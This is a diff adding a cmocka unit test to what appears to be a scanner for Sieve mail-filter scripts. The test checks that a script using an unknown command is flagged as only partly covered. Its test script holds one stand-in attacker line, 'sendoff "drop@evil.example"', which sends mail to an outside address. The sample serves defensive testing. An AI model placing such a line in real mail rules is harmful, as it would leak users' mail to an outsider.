@@ -31,6 +31,16 @@ static void a_script_that_does_not_parse_is_not_clean(void **state)
     scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "does not parse");
 }
 
+static void a_script_with_an_unknown_command_is_not_clean(void **state)
+{
+    struct scan_box *box = *state;
+    struct error err = {0};
+
+    scan_box_script(box, "main", "require [\"vnd.x.send\"];\nsendoff \"drop@evil.example\";\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "does what is not known here: sendoff");
+}
+
 static void a_script_that_calls_an_unknown_one_is_not_wholly_read(void **state)
 {
     struct scan_box *box = *state;
@@ -132,6 +142,8 @@ int main(void)
                                         scan_box_close),
         cmocka_unit_test_setup_teardown(a_script_that_does_not_parse_is_not_clean, scan_box_open,
                                         scan_box_close),
+        cmocka_unit_test_setup_teardown(a_script_with_an_unknown_command_is_not_clean,
+                                        scan_box_open, scan_box_close),
         cmocka_unit_test_setup_teardown(a_script_that_calls_an_unknown_one_is_not_wholly_read,
                                         scan_box_open, scan_box_close),
         cmocka_unit_test_setup_teardown(rules_that_the_newest_look_missed_are_not_called_examined,
